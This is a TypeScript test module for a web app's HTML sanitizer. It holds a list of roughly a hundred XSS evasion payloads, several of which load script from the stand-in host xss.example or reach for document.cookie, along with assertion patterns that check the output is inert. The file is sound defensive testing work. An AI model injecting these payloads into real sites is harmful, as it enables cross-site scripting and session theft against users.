import { expect } from 'vitest'
import { sanitizePostHtml } from '#server/core/rich-text/sanitize.ts'

// The XSS corpus every rich-text write is tested against (posts' sanitizer, forum threads and
// replies), and what "safe" means for the HTML that comes out.

// Payloads after the OWASP XSS Filter Evasion Cheat Sheet, grouped by trick. None may survive.
export const XSS_PAYLOADS: string[] = [
  // Script tags, plain and disguised
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<script/XSS src="https://xss.example/xss.js"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT SRC=https://xss.example/xss.js?< B >',
  '<SCRIPT SRC=//xss.example/.j>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="https://xss.example/xss.js"></SCRIPT>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<p>before<script>document.cookie</script>after</p>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script\x0Dtype="text/javascript">alert(1)</script>',
  // javascript:, vbscript:, data: URLs in every spelling
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav\tascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  '<a href="jav&#x0D;ascript:alert(1)">click</a>',
  '<a href="&#14;  javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">click</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">click</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, XSS")`>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://xss.example/x.png">',
  '<img src="//xss.example/x.png">',
  '<a href="//xss.example/">protocol-relative</a>',
  '<a href="/\\xss.example/">backslash protocol-relative</a>',
  '<a href="\\\\xss.example/">backslashes</a>',
  // Event handlers on many tags
  '<IMG SRC=/api/files/posts/x.png onerror="alert(1)">',
  '<img src=x onerror=alert(1)//>',
  '<p onclick="alert(1)">text</p>',
  '<strong onmouseover=alert(1)>bold</strong>',
  '<h2 ONLOAD=alert(1)>title</h2>',
  '<body onload=alert(1)>',
  '<div onpointerenter="alert(1)">div</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<a href="/ok" onclick="alert(1)">ok</a>',
  '<li onmouseover="alert(1)">item</li>',
  // svg, math, iframe, object, embed, base, meta, link, style
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
  '<math><maction actiontype="statusline#https://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  '<BASE HREF="javascript:alert(1);//">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  // CSS expression / url()
  '<p style="width: expression(alert(1));">css</p>',
  '<p STYLE="background-image: url(javascript:alert(1))">css</p>',
  '<h3 style="behavior: url(xss.htc);">css</h3>',
  '<p class="x" style="x:\\65xpression(alert(1))">css</p>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">t</TD></TABLE>',
  // Forms
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  // Malformed, nested and unclosed tags
  '<IMG SRC="javascript:alert(1)"',
  '<a href="javascript:alert(1)"',
  '<p <script>alert(1)</script>>',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)',
  '<a href=javascript:alert(1)>unquoted</a>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<p>unclosed <em>em <strong>strong <script>alert(1)',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  // template / noscript / other parsing tricks
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
  '<object data="javascript:alert(1)">',
]

// Pinned here on purpose, not imported from the sanitizer: widening the sanitizer's allowlist must fail this test
// until someone decides, in review, that the new tag is safe.
const ALLOWED = new Set([
  'p',
  'h2',
  'h3',
  'h4',
  'strong',
  'em',
  'u',
  's',
  'blockquote',
  'ul',
  'ol',
  'li',
  'code',
  'pre',
  'a',
  'img',
  'hr',
  'br',
])

/** Every tag in the output, with its attribute names and values. */
function tagsOf(html: string) {
  return [...html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)].map(([, name, attrs]) => ({
    name: name.toLowerCase(),
    attrs: [...attrs.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(([, key, value]) => ({
      key: key.toLowerCase(),
      value: value ?? '',
    })),
  }))
}

/** Asserts sanitized HTML can run nothing: only allowed tags and attributes, no script anywhere. */
export function expectInertHtml(out: string) {
  expect(out).not.toMatch(/<script/i)
  expect(out).not.toMatch(/<[^>]*\son\w+\s*=/i)
  expect(out).not.toMatch(/javascript:|vbscript:|data:/i)
  expect(out).not.toMatch(/style\s*=/i)
  expect(out).not.toMatch(
    /<\s*(svg|math|iframe|frame|object|embed|base|meta|link|style|form|input|button|template|noscript|body|table)/i,
  )
  for (const tag of tagsOf(out)) {
    expect(ALLOWED.has(tag.name), `<${tag.name}> in ${out}`).toBe(true)
    for (const { key, value } of tag.attrs) {
      expect(['href', 'rel', 'src', 'alt'], `${key} in ${out}`).toContain(key)
      if (key === 'src') expect(value).toMatch(/^\/api\/files\//)
      if (key === 'href') expect(value).toMatch(/^(https?:|mailto:|\/(?!\/)|#|[\w.-]+(\/|$))/i)
    }
  }
  // Whatever is left is inert: sanitizing it again changes nothing.
  expect(sanitizePostHtml(out)).toBe(out)
}
